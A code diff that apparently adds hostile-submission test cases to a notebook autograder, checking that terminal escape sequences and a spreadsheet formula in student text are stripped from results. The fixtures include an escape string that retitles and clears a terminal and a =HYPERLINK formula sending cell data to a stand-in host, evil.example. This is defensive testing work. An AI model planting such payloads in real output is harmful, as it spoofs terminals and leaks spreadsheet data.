@@ -1908,6 +1908,31 @@ NUMPY_TRAIN_STEP_0D = _reference_edit(
     "07_capstone", "train_step", ("return loss.item()", "return loss.detach().numpy()"))
 
 
+# Issue 21: student text meant for a terminal or a spreadsheet. An OSC sequence sets the
+# terminal's title, ESC[2J clears it, U+202E reverses what follows: none reaches a result.
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+RAISES_A_FORMULA = f'''
+def attention_scores(query, key):
+    named = type({FORMULA + ESCAPES!r}, (ValueError,), {{}})
+    raise named({ESCAPES + "read me"!r})
+'''
+
+
+def _kernel_with_escapes(kit):
+    nb = _r_kernel(kit)
+    nb["metadata"]["kernelspec"]["display_name"] = "R" + ESCAPES
+    return nb
+
+
+def _grade_id_with_escapes(nb):
+    """Two cells of an exercise nobody asked for, named with escape sequences."""
+    cell = copy.deepcopy(_solution_cell(nb, "attention_scores"))
+    cell["metadata"]["nbgrader"]["grade_id"] = "extra" + ESCAPES
+    cell.pop("id", None)
+    nb["cells"] += [cell, copy.deepcopy(cell)]
+
+
 # ---------------------------------------------------------------------------------------
 # The catalogue
 # ---------------------------------------------------------------------------------------
@@ -2361,6 +2386,19 @@ ENTRIES = [
             chapter=CH7),
     Hostile("numpy_0d_array_training_loss", cells(train_step=NUMPY_TRAIN_STEP_0D), Expect(),
             chapter=CH7),
+    # issue 21: escape sequences and formulas in student text (every text of every result
+    # is checked for control characters by test_hostile_submission)
+    Hostile("kernel_name_with_terminal_escapes", _kernel_with_escapes,
+            Expect("error", error=r"uses the R\]0;owned\[2J\[31m kernel; the course's "
+                                  r"notebooks are Python")),
+    Hostile("exception_named_like_a_formula_with_escapes",
+            cells(attention_scores=RAISES_A_FORMULA),
+            Expect(tests={SCORES: failed(r"^attention_scores raised =HYPERLINK\("
+                                         r"\"http://evil\.example/\?\"&A1,\"click\"\)\]0;"
+                                         r"owned\[2J\[31m: \]0;owned\[2J\[31mread me")})),
+    Hostile("grade_id_with_terminal_escapes", edited(_grade_id_with_escapes),
+            Expect(problems=[("duplicate", r"the exercise 'extra\]0;owned\[2J\[31m' is in 2 "
+                                           r"cells")])),
     Hostile("heads_chapter_1_submitted_as_chapter_2", _other_chapter,
             Expect("error", error=r"02_heads\.ipynb holds 0 of 02_heads's 5 exercises; it "
                                   r"holds 01_attention's exercises"), chapter=CH2),
